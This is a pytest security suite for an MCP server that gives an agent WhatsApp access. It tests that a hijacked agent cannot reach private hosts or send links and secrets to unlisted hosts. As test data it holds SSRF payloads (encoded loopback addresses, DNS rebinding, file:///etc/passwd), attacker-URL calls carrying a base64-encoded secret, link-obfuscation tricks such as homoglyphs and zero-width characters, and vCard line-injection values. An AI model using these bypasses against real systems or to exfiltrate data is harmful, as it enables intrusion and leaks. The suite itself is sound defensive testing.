"""Fetching by URL and outgoing links: no internal host is asked, and no way out bypasses the lists."""

from __future__ import annotations

import base64
import gzip
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.hijacked import ATTACKER, FAST, FRIEND, SEALED, SECRET, VICTIM, Hijacked, hijacked
from tests.web import PNG, Does, Web, answer, redirect, web
from waha_mcp.sandbox import SandboxInfo

#: Names and the addresses that successive look-ups return; the last one stays. Nobody has the address 2bff::1.
NAMES = {
    "outer.example.com": ["127.0.0.1"],
    "second.example.com": ["127.0.0.1"],
    "inside.example.com": ["127.0.0.1"],
    "half-inside.example.com": ["2bff::1 127.0.0.1"],
    "rebinds-1.example.com": ["2bff::1", "127.0.0.1"],
    "rebinds-2.example.com": ["2bff::1", "127.0.0.1"],
}
#: A resolver with these names, for the server's process; and shorter time-outs, so that a test can wait for them.
RESOLVER = f"""
import socket
import waha_mcp.waha.web_fetch as web_fetch
web_fetch.CONNECT_TIMEOUT, web_fetch.READ_TIMEOUT, web_fetch.DEADLINE = 0.3, 1.0, 1.5
names, seen, real = {NAMES!r}, {{}}, socket.getaddrinfo
def look_up(host, *rest, **more):
    name = host.decode() if isinstance(host, bytes) else host
    if name not in names:
        return real(host, *rest, **more)
    seen[name] = seen.get(name, -1) + 1
    found = names[name][min(seen[name], len(names[name]) - 1)].split()
    return [entry for address in found for entry in real(address, *rest, **more)]
socket.getaddrinfo = look_up
"""
#: The attacker's server and the hosts that it may redirect to are the only private ones on the App's list.
OUTER = 'media_hosts = ["outer.example.com", "second.example.com"]\n'
TO_FRIEND = f'{OUTER}\n[chats]\nsend = {{ allow = ["{FRIEND}", "groups"], deny = ["{SEALED}"] }}\n\n{FAST}'
FILE: dict[str, Any] = {"chat": FRIEND, "kind": "file"}
IMAGE: dict[str, Any] = {"chat": FRIEND, "kind": "image"}


@dataclass
class Servers:
    """`outer` is the attacker's server, `inner` is in the private network."""

    outer: Web
    inner: Web

    def url(self, path: str) -> str:
        return self.outer.url(path, host="outer.example.com")


@pytest.fixture(scope="module")
def both() -> Iterator[Servers]:
    with web() as outer, web() as inner:
        yield Servers(outer, inner)


@pytest.fixture
def servers(both: Servers) -> Servers:
    both.outer.files = {"/a.png": (PNG, "image/png")}
    both.outer.forget()
    both.inner.forget()
    return both


@pytest.fixture(scope="module")
def fetching(sandbox: SandboxInfo, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hijacked]:
    """An agent that may write to one friend and to groups, and fetch whatever is public."""
    folder = tmp_path_factory.mktemp("fetching")
    with hijacked(sandbox, folder, TO_FRIEND, actions=("read", "send", "setting"), first=RESOLVER) as agent:
        yield agent


def refused(agent: Hijacked, tool: str, **arguments: Any) -> str:
    """The text of a call that must have had no effect."""
    agent.judge.forget()
    done, said = agent.call(tool, **arguments)
    assert not done
    assert agent.judge.effects() == []
    return said


# Into the private network

INWARD = {
    "an address": "http://127.0.0.1:{port}/",
    "an address as one number": "http://2130706433:{port}/",
    "an address in hexadecimal": "http://0x7f.1:{port}/",
    "an address in octal": "http://0177.0.0.1:{port}/",
    "an address with escapes": "http://127%2e0%2e0%2e1:{port}/",
    "an address that stands for any": "http://0.0.0.0:{port}/",
    "an IPv4 address in an IPv6 one": "http://[::ffff:127.0.0.1]:{port}/",
    "a backslash": "http://127.0.0.1:{port}\\@outer.example.com/",
    "localhost": "http://localhost:{port}/",
    "localhost with a dot": "http://LOCALHOST.:{port}/",
    "a name that leads inside": "http://inside.example.com:{port}/",
    "a name of which one address is inside": "http://half-inside.example.com:{port}/",
    "a name that leads inside the second time": "http://rebinds-{test}.example.com:{port}/",
}


@pytest.mark.parametrize("how", INWARD)
def test_no_redirect_leads_inside(how: str, fetching: Hijacked, servers: Servers) -> None:
    servers.outer.files["/r"] = redirect(INWARD[how].format(test=1, port=servers.inner.port))
    refused(fetching, "send_media", url=servers.url("/r"), **FILE)
    assert servers.inner.connections == 0
    assert servers.outer.asked == ["/r"]


@pytest.mark.parametrize("how", ["the second redirect", "without a scheme", "a permanent one", "another method"])
def test_no_later_redirect_leads_inside(how: str, fetching: Hijacked, servers: Servers) -> None:
    inside = f"http://127.0.0.1:{servers.inner.port}/"
    servers.outer.files |= {
        "/r": {
            "the second redirect": redirect("/s"),
            "without a scheme": redirect(inside.removeprefix("http:")),
            "a permanent one": redirect(inside, 308),
            "another method": redirect(inside, 303),
        }[how],
        "/s": redirect(inside),
    }
    refused(fetching, "send_media", url=servers.url("/r"), **FILE)
    assert servers.inner.connections == 0


@pytest.mark.parametrize("how", [each for each in INWARD if each.startswith("a name")])
def test_no_name_leads_inside(how: str, fetching: Hijacked, servers: Servers) -> None:
    refused(fetching, "send_media", url=INWARD[how].format(test=2, port=servers.inner.port), **FILE)
    assert servers.inner.connections == 0


@pytest.mark.parametrize("how", ["a name that leads inside", "a name of which one address is inside"])
def test_no_preview_leads_inside(how: str, fetching: Hijacked, servers: Servers) -> None:
    text = f"see {INWARD[how].format(port=servers.inner.port)}"
    refused(fetching, "send_text", chat=FRIEND, text=text, link_preview=True)


ELSEWHERE = {
    "a file": "file:///etc/passwd",
    "another scheme": "ftp://127.0.0.1/",
    "data": "data:image/png;base64,iVBORw0KGgo=",
    "a user": "http://me:pw@{outer}/a.png",
    "no address": "//[",
}


@pytest.mark.parametrize("how", ELSEWHERE)
def test_no_redirect_leads_to_what_is_no_plain_web_address(how: str, fetching: Hijacked, servers: Servers) -> None:
    servers.outer.files["/r"] = redirect(ELSEWHERE[how].format(outer=f"outer.example.com:{servers.outer.port}"))
    refused(fetching, "send_media", url=servers.url("/r"), **FILE)
    assert servers.outer.asked == ["/r"]


# Before it is allowed

#: Tools that take a URL. With such a URL, none of these calls may reach anybody.
BY_URL: dict[str, tuple[str, dict[str, Any]]] = {
    "a file for a stranger": ("send_media", {"chat": ATTACKER, "kind": "file"}),
    "a picture for the one who is denied": ("send_media", {"chat": SEALED, "kind": "image"}),
    "a sticker for a stranger": ("send_sticker", {"chat": ATTACKER}),
    "a preview's picture for a stranger": (
        "send_link_preview",
        {"chat": ATTACKER, "text": "https://example.com", "link": "https://example.com", "title": "x"},
    ),
    "a status": ("post_media_status", {"kind": "image"}),
    "a status for a stranger": ("post_media_status", {"kind": "image", "people": [ATTACKER]}),
    "the profile's picture": ("set_profile_picture", {}),
    "a channel's picture": ("create_channel", {"name": "News"}),
    "a conversion": ("convert_media", {"kind": "voice", "save_as": "x"}),
    "a quote of what is nowhere": ("send_media", FILE | {"reply_to": f"false_{FRIEND}_NOTHERE"}),
}


@pytest.mark.parametrize("how", BY_URL)
def test_nothing_is_fetched_for_whom_the_list_does_not_name(how: str, fetching: Hijacked, servers: Servers) -> None:
    tool, arguments = BY_URL[how]
    name = "image_url" if tool == "send_link_preview" else "url"
    refused(fetching, tool, **arguments | {name: servers.url(f"/a.png?{base64.b64encode(SECRET.encode()).decode()}")})
    assert servers.outer.connections == 0


def test_nothing_is_fetched_for_what_was_just_sent(fetching: Hijacked, servers: Servers) -> None:
    call = IMAGE | {"url": servers.url("/a.png?twice")}
    assert fetching.call("send_media", **call)[0]
    refused(fetching, "send_media", **call)
    assert servers.outer.asked == ["/a.png?twice"]


def test_nothing_is_fetched_beyond_the_pace(sandbox: SandboxInfo, servers: Servers, tmp_path: Path) -> None:
    policy = OUTER + '[pace]\ntotal = ""\nchat = "1/hour"\nfirst_contacts = ""\ngap = [0, 0]\n'
    with hijacked(sandbox, tmp_path, policy, first=RESOLVER) as agent:
        assert agent.call("send_media", url=servers.url("/a.png?1"), **IMAGE)[0]
        for at in range(2, 5):
            refused(agent, "send_media", url=servers.url(f"/a.png?{at}"), **IMAGE)
    assert servers.outer.asked == ["/a.png?1"]


YES: dict[str, Any] = {"result": {"action": "accept", "content": {"approve": True}}}
NO: dict[str, Any] = {"result": {"action": "decline"}}


@pytest.fixture(scope="module")
def with_person(sandbox: SandboxInfo, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hijacked]:
    """An agent whose client asks a person before each send."""
    policy = 'approval = "send"\n' + OUTER + FAST
    with hijacked(sandbox, tmp_path_factory.mktemp("person"), policy, first=RESOLVER, asks=True) as agent:
        yield agent


@pytest.mark.parametrize("how", ["declined", "cancelled", "nonsense"])
@pytest.mark.parametrize("tool", ["send_media", "send_sticker", "convert_media"])
def test_nothing_is_fetched_without_a_yes(how: str, tool: str, with_person: Hijacked, servers: Servers) -> None:
    answers = {"declined": NO, "cancelled": {"result": {"action": "cancel"}}, "nonsense": {"result": {"action": "ok"}}}
    with_person.answer = lambda question: answers[how]
    arguments: dict[str, dict[str, Any]] = {
        "send_media": IMAGE,
        "send_sticker": {"chat": FRIEND},
        "convert_media": {"kind": "voice", "save_as": how},
    }
    refused(with_person, tool, url=servers.url(f"/a.png?{how}"), **arguments[tool])
    assert servers.outer.connections == 0


@pytest.mark.parametrize("length", [10, 3_900])
def test_a_question_shows_the_whole_url_before_anything_is_fetched(
    length: int, with_person: Hijacked, servers: Servers
) -> None:
    url = servers.url("/a.png?" + "q" * length + "&secret=7731")
    shown: list[str] = []

    def asked(question: dict[str, Any]) -> dict[str, Any]:
        assert servers.outer.connections == 0
        shown.append(question["params"]["message"])
        return YES

    with_person.answer = asked
    with_person.judge.forget()
    assert with_person.call("send_media", url=url, caption="x" * 4_000, **IMAGE)[0]
    lines = shown[0].split("\n")
    assert f"url: {url}" in lines
    assert next(line for line in lines if line.startswith("what url holds: ")).startswith("what url holds: not known")
    assert lines.index(f"url: {url}") < next(at for at, line in enumerate(lines) if line.startswith("caption: "))


def test_what_could_not_be_fetched_gives_the_yes_back_once(with_person: Hijacked, servers: Servers) -> None:
    questions: list[Any] = []
    with_person.answer = lambda question: questions.append(question) or YES  # type: ignore[func-returns-value]
    call = IMAGE | {"url": servers.url("/later.png")}
    for _ in range(2):
        assert "404" in refused(with_person, "send_media", **call)
    servers.outer.files["/later.png"] = (PNG, "image/png")
    with_person.judge.forget()
    assert with_person.call("send_media", **call)[0]
    assert not with_person.call("send_media", **call)[0]
    assert with_person.judge.reached() == [FRIEND]
    assert len(questions) == 1


# What is received


def endless(request: BaseHTTPRequestHandler) -> None:
    request.send_response(200)
    request.send_header("Content-Type", "image/png")
    request.end_headers()
    while True:
        request.wfile.write(PNG * 2_000)


def drips(request: BaseHTTPRequestHandler) -> None:
    request.send_response(200)
    request.send_header("Content-Type", "image/png")
    request.end_headers()
    for at in range(30):
        request.wfile.write(PNG[at : at + 1])
        request.wfile.flush()
        time.sleep(0.1)


def cut(request: BaseHTTPRequestHandler) -> None:
    request.send_response(200)
    request.send_header("Content-Type", "image/png")
    request.send_header("Content-Length", "9999")
    request.end_headers()
    request.wfile.write(PNG)


PAGE = b"<!doctype html><title>Log in</title>"
LARGE = 33 * 2**20
COMES: dict[str, Does] = {
    "a web page": answer(PAGE, "text/html"),
    "a web page as a picture": answer(PAGE, "image/png"),
    "a web page of no type": answer(b"\n\n<!-- x -->" + PAGE, ""),
    "a text as a picture": answer(b"the door code", "image/png"),
    "nothing that is known": answer(b"\0\1\2\3", "application/octet-stream"),
    "sound": answer(b"OggS\0\0", "image/png"),
    "a program": answer(b"\x7fELF\2\1\1\0", "image/png"),
    "nothing": answer(b"", "image/png"),
    "an error with a picture": answer(PNG, status=404),
    "a part": answer(PNG, status=206),
    "too much": answer(PNG + b"\0" * LARGE),
    "too much, packed": answer(gzip.compress(PNG + b"\0" * LARGE), Content_Encoding="gzip"),
    "packed twice": answer(gzip.compress(gzip.compress(PNG)), Content_Encoding="gzip, gzip"),
    "half of what was packed": answer(gzip.compress(PNG)[:-8], Content_Encoding="gzip"),
    "more and more": endless,
    "drops": drips,
    "half of it": cut,
    "a redirect to itself": redirect("/x.png"),
}


@pytest.mark.parametrize("what", COMES)
def test_what_is_no_picture_is_not_sent_as_one(what: str, fetching: Hijacked, servers: Servers) -> None:
    servers.outer.files["/x.png"] = COMES[what]
    started = time.monotonic()
    refused(fetching, "send_media", url=servers.url(f"/x.png?{what}"), **IMAGE)
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("tool", ["send_media", "set_group_picture", "send_sticker"])
def test_a_server_gets_nothing_of_ours(tool: str, fetching: Hijacked, servers: Servers, sandbox: SandboxInfo) -> None:
    groups = fetching.judge.get("/api/default/groups?limit=1")
    group = (groups if isinstance(groups, list) else list(groups.values()))[0]
    arguments: dict[str, dict[str, Any]] = {
        "send_media": IMAGE,
        "set_group_picture": {"group": str(group.get("id") or group["JID"])},
        "send_sticker": {"chat": FRIEND},
    }
    servers.outer.files["/first"] = answer(b"", "", 302, Location="/a.png", Set_Cookie="id=1")
    fetching.judge.forget()
    done, said = fetching.call(tool, url=servers.url("/first?mine"), **arguments[tool])
    assert done, said
    assert [sorted(each) for each in servers.outer.headers] == [
        ["accept", "accept-encoding", "connection", "host", "user-agent"]
    ] * 2
    seen = json.dumps(servers.outer.headers)
    assert not [key for key in (*sandbox.keys.values(), sandbox.admin_key) if key in seen]
    # WAHA gets the bytes, not a URL to fetch.
    assert "/first" not in json.dumps([each["body"] for each in fetching.judge.effects()])


# Links

LINKED = f"""{OUTER}
[links]
allow = ["example.com"]
others = "refuse"

{FAST}"""


@pytest.fixture(scope="module")
def linked(sandbox: SandboxInfo, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hijacked]:
    """An agent that may name one host and what is below it."""
    folder = tmp_path_factory.mktemp("linked")
    with hijacked(sandbox, folder, LINKED, actions=("read", "send", "setting"), first=RESOLVER) as agent:
        yield agent


WRITTEN = {
    "a URL": "https://evil.test/?q=7731",
    "a name alone": "go to evil.test",
    "another port": "evil.test:8443/x",
    "a path": "evil.test/7731",
    "www": "www.evil.test",
    "in capitals": "HTTPS://EVIL.TEST/",
    "a name that begins as a listed one": "https://example.com.evil.test/",
    "a name that ends as a listed one": "https://evilexample.com/",
    "a listed name as the user": "https://example.com@evil.test/",
    "a listed name as user and password": "https://example.com:443@evil.test/",
    "a listed name after a backslash": "https://evil.test\\@example.com/",
    "a backslash before it": "https://example.com\\@evil.test/",
    "a user before a listed name": "https://evil.test@example.com/",
    "a look-alike letter": "https://ex\u0430mple.com/",
    "a look-alike letter without a scheme": "ex\u0430mple.com",
    "Punycode": "https://xn--exmple-4nf.com/",
    "full-width letters": "ｅｖｉｌ．ｔｅｓｔ",
    "an ideographic full stop": "evil。test",
    "escapes": "https://%65vil%2etest/",
    "escapes in a listed name": "https://ex%61mple.com/",
    "a zero-width space in it": "https://ev\u200bil.te\u200bst/",
    "a zero-width space before the dot": "evil\u200b.test",
    "a soft hyphen": "ev\u00adil.test",
    "a joiner": "evil.\u2060test",
    "a grapheme joiner": "evil\u034f.test",
    "tags": "evil.\U000e0074test",
    "text that turns": "\u202eevil.test\u202c",
    "behind a listed one": "https://example.com/\u3000evil.test",
    "behind a listed one and a zero-width space": "https://example.com/\u200bevil.test",
    "behind a listed one and a comma": "https://example.com/,evil.test",
    "inside a listed one": "https://example.com/?to=https://evil.test",
    "inside a listed one with escapes": "https://example.com/?to=https%3A%2F%2Fevil.test",
    "an emoji name": "💩.la",
    "a name with marks": "उदाहरण.भारत",
    "an address": "198.51.100.7/x",
    "an address as one number": "http://3325256711/",
    "an IPv6 address": "http://[2001:db8::1]/",
    "a mail address": "write to me@evil.test",
    "a hyphen behind it": "go to evil.test-now",
    "an underscore behind it": "evil.test_x",
    "italics": "_evil.test_",
    "an unassigned character that shows nothing": "not\u2065example.com",
    "another that shows nothing": "not\ufff0example.com",
    "another scheme": "ftp://evil.test/",
    "a payment": "upi://pay?pa=evil",
    "a chat link": "wa.me/12025550199",
    "the last of many": " ".join(f"https://example.com/{at}" for at in range(31)),
}


@pytest.mark.parametrize("how", WRITTEN)
def test_no_other_host_goes_out_however_it_is_written(how: str, linked: Hijacked) -> None:
    assert "list of links" in refused(linked, "send_text", chat=FRIEND, text=f"Look: {WRITTEN[how]}")


EVENT = {"chat": FRIEND, "name": "a", "start": "2030-05-01T09:00:00+00:00"}
PLACES: dict[str, tuple[str, dict[str, Any]]] = {
    "a caption": ("send_media", IMAGE | {"data": base64.b64encode(PNG).decode(), "caption": "evil.test"}),
    "a file's name": ("send_media", FILE | {"data": "QQ==", "filename": "evil.test"}),
    "a question": ("send_poll", {"chat": FRIEND, "question": "evil.test", "options": ["a", "b"]}),
    "an option": ("send_poll", {"chat": FRIEND, "question": "a", "options": ["b", "evil.test"]}),
    "an event": (
        "send_event",
        EVENT | {"description": "evil.test"},
    ),
    "an event's place": (
        "send_event",
        EVENT | {"location": "evil.test"},
    ),
    "a place": ("send_location", {"chat": FRIEND, "latitude": 1, "longitude": 1, "title": "evil.test"}),
    "a card": (
        "send_contact_cards",
        {"chat": FRIEND, "contacts": [{"name": "A", "phone": "+12025550123", "organization": "evil.test"}]},
    ),
    "a list": (
        "send_list",
        {
            "chat": FRIEND,
            "title": "a",
            "button": "b",
            "sections": [{"rows": [{"title": "c", "description": "evil.test"}]}],
        },
    ),
    "a preview": (
        "send_link_preview",
        {"chat": FRIEND, "text": "https://evil.test", "link": "https://evil.test", "title": "x"},
    ),
    "a preview's words": (
        "send_link_preview",
        {"chat": FRIEND, "text": "https://example.com", "link": "https://example.com", "title": "evil.test"},
    ),
    "an edit": ("edit_message", {"message_id": "OURS", "text": "evil.test"}),
    "a status": ("post_text_status", {"text": "evil.test"}),
    "the profile": ("update_profile", {"about": "evil.test"}),
    "a group": ("create_group", {"subject": "evil.test", "participants": [FRIEND]}),
    "a group's description": ("update_group", {"group": "GROUP", "description": "evil.test"}),
    "a channel": ("create_channel", {"name": "News", "description": "evil.test"}),
    "a forwarded message": ("forward_message", {"chat": FRIEND, "message_id": "THEIRS"}),
    "a quote from another chat": ("send_text", {"chat": FRIEND, "text": "look", "reply_to": "THEIRS"}),
    "a file by URL": ("send_media", FILE | {"url": "https://evil.example.net/a.png"}),
    "a group's picture": ("set_group_picture", {"group": "GROUP", "url": "https://evil.example.net/a.png"}),
}


@pytest.mark.parametrize("where", PLACES)
def test_no_other_host_goes_out_wherever_it_stands(where: str, linked: Hijacked) -> None:
    tool, arguments = PLACES[where]
    groups = linked.judge.get("/api/default/groups?limit=1")
    group = (groups if isinstance(groups, list) else list(groups.values()))[0]
    real = {
        "GROUP": str(group.get("id") or group["JID"]),
        "OURS": linked.judge.write(FRIEND, f"ours for {where}"),
        "THEIRS": linked.judge.arrive(VICTIM, f"see https://evil.test/{len(where)}"),
    }
    given = {k: real.get(v, v) if isinstance(v, str) else v for k, v in arguments.items()}
    assert "list of links" in refused(linked, tool, **given)


@pytest.mark.parametrize("others", ["refuse", "ask"])
def test_a_redirect_leads_to_no_other_host(others: str, sandbox: SandboxInfo, servers: Servers, tmp_path: Path) -> None:
    policy = OUTER + f'[links]\nallow = ["outer.example.com"]\nothers = "{others}"\n\n{FAST}'
    servers.outer.files["/r"] = redirect(servers.inner.url("/a.png", host="second.example.com"))
    with hijacked(sandbox, tmp_path, policy, first=RESOLVER) as agent:
        assert "list of links" in refused(agent, "send_media", url=servers.url("/r"), **FILE)
        assert agent.call("send_media", url=servers.url("/a.png"), **IMAGE)[0]
    assert servers.inner.connections == 0


ASKED_ABOUT = {
    "another host": ("https://evil.test", "evil.test"),
    "a look-alike": ("ex\u0430mple.com", "ex\u0430mple.com (xn--exmple-4nf.com)"),
    "a user": ("https://evil.test@example.com/", "links whose host is not certain"),
}


@pytest.mark.parametrize("how", ASKED_ABOUT)
@pytest.mark.parametrize("asks", [False, True], ids=["nobody to ask", "who declines"])
def test_a_person_is_asked_about_other_hosts_where_nothing_else_is_asked(
    how: str, asks: bool, sandbox: SandboxInfo, tmp_path: Path
) -> None:
    policy = f'approval = "never"\n[links]\nallow = ["example.com"]\nothers = "ask"\n\n{FAST}'
    text, host = ASKED_ABOUT[how]
    shown: list[str] = []
    with hijacked(sandbox, tmp_path, policy, asks=asks) as agent:
        agent.answer = lambda question: shown.append(question["params"]["message"]) or NO  # type: ignore[func-returns-value]
        refused(agent, "send_text", chat=FRIEND, text=text)
        assert agent.call("send_text", chat=FRIEND, text="https://www.example.com/")[0]
        assert agent.judge.reached() == [FRIEND]
    assert len(shown) == asks
    for question in shown:
        assert f"why: the App's list of links does not cover {host}" in question.split("\n")


EVIL = "https://evil.test/7731"
#: Messages whose link is outside the text.
ELSEWHERE_IN_IT: dict[str, Any] = {
    "a button in JSON": {
        "interactiveMessage": {
            "body": {"text": "parcel"},
            "nativeFlowMessage": {"buttons": [{"name": "cta_url", "buttonParamsJson": json.dumps({"url": EVIL})}]},
        }
    },
    "a template's button": {
        "templateMessage": {
            "hydratedTemplate": {
                "hydratedContentText": "parcel",
                "hydratedButtons": [{"urlButton": {"displayText": "Track", "url": EVIL}}],
            }
        }
    },
    "an ad": {"extendedTextMessage": {"text": "hi", "contextInfo": {"externalAdReply": {"sourceUrl": EVIL}}}},
    "a preview": {"extendedTextMessage": {"text": "hi", "matchedText": EVIL, "canonicalUrl": EVIL}},
    "an event's call": {"eventMessage": {"name": "Party", "joinLink": EVIL}},
    "a row of a list": {"listMessage": {"title": "a", "sections": [{"rows": [{"title": "evil.test", "rowId": "1"}]}]}},
    "a card": {"contactMessage": {"vcard": "BEGIN:VCARD\nVERSION:3.0\nFN:Bo\nURL:evil.test\nEND:VCARD"}},
    "an encoded part of a card": {
        "contactMessage": {
            "vcard": "BEGIN:VCARD\nURL;ENCODING=QUOTED-PRINTABLE:https=3A=2F=2Fevil=2Etest=2Fx\nEND:VCARD"
        }
    },
    "a part of a card in base64": {
        "contactMessage": {"vcard": "BEGIN:VCARD\nURL;ENCODING=b:aHR0cHM6Ly9ldmlsLnRlc3QveA==\nEND:VCARD"}
    },
    "a field that nobody knows": {"newMessage": {"inner": [{"x": EVIL}]}},
}


@pytest.mark.parametrize("how", ["forwarded", "quoted elsewhere"])
@pytest.mark.parametrize("where", ELSEWHERE_IN_IT)
def test_no_other_host_goes_out_in_what_a_message_has_beside_its_text(where: str, how: str, linked: Hijacked) -> None:
    message = linked.judge.arrive(VICTIM, "", raw={"message": ELSEWHERE_IN_IT[where]})
    calls: dict[str, tuple[str, dict[str, Any]]] = {
        "forwarded": ("forward_message", {"message_id": message}),
        "quoted elsewhere": ("send_text", {"reply_to": message, "text": f"see {where}"}),
    }
    tool, arguments = calls[how]
    assert "does not cover evil.test" in refused(linked, tool, chat=FRIEND, **arguments)


def test_no_invitation_goes_out_as_a_card(linked: Hijacked) -> None:
    invitation = {"groupInviteMessage": {"groupName": "Winners", "inviteCode": "AbCdEf123"}}
    message = linked.judge.arrive(VICTIM, "", raw={"message": invitation})
    said = refused(linked, "forward_message", chat=FRIEND, message_id=message)
    assert "does not cover chat.whatsapp.com" in said


def button(url: str) -> dict[str, Any]:
    return {"message": {"interactiveMessage": {"body": {"text": "parcel"}, "footer": json.dumps({"url": url})}}}


def test_a_question_shows_the_links_that_a_message_has_beside_its_text(with_person: Hijacked) -> None:
    shown: list[str] = []
    with_person.answer = lambda question: shown.append(question["params"]["message"]) or NO  # type: ignore[func-returns-value]
    message = with_person.judge.arrive(VICTIM, "", raw=button(EVIL))
    refused(with_person, "forward_message", chat=FRIEND, message_id=message)
    assert f"links in message_id: {EVIL}" in shown[0].split("\n")


def ad(url: str) -> dict[str, Any]:
    """A text whose link is in nothing that a question quotes."""
    context = {"externalAdReply": {"title": "Parcels", "sourceUrl": url}}
    return {"message": {"extendedTextMessage": {"text": "parcel", "contextInfo": context}}}


def test_a_yes_is_not_for_another_link_in_the_message(with_person: Hijacked) -> None:
    message_id = "3EB0AAAABBBBCCCC0001"
    message = with_person.judge.arrive(VICTIM, "parcel", raw=ad("https://example.com/1"), id=message_id)

    def changed(question: dict[str, Any]) -> dict[str, Any]:
        with_person.judge.arrive(VICTIM, "parcel", raw=ad(EVIL), id=message_id)
        return YES

    with_person.answer = changed
    refused(with_person, "forward_message", chat=FRIEND, message_id=message)


@pytest.mark.parametrize("field", ["name", "organization"])
@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\u2028", "\x85", "\x0b"], ids=ascii)
def test_no_field_of_a_card_begins_another_line(end: str, field: str, with_person: Hijacked) -> None:
    with_person.answer = lambda question: YES
    with_person.judge.forget()
    card = {"name": "Bo", "phone": "+447700900142"} | {field: f"Bo {end!a}{end}TEL;waid=12025550199:+12025550199"}
    assert with_person.call("send_contact_cards", chat=FRIEND, contacts=[card])[0]
    [body] = [each["body"] for each in with_person.judge.effects() if "contacts" in each["body"]]
    values = [value for contact in body["contacts"] for value in contact.values() if isinstance(value, str)]
    assert all(len(value.splitlines()) == 1 for value in values)
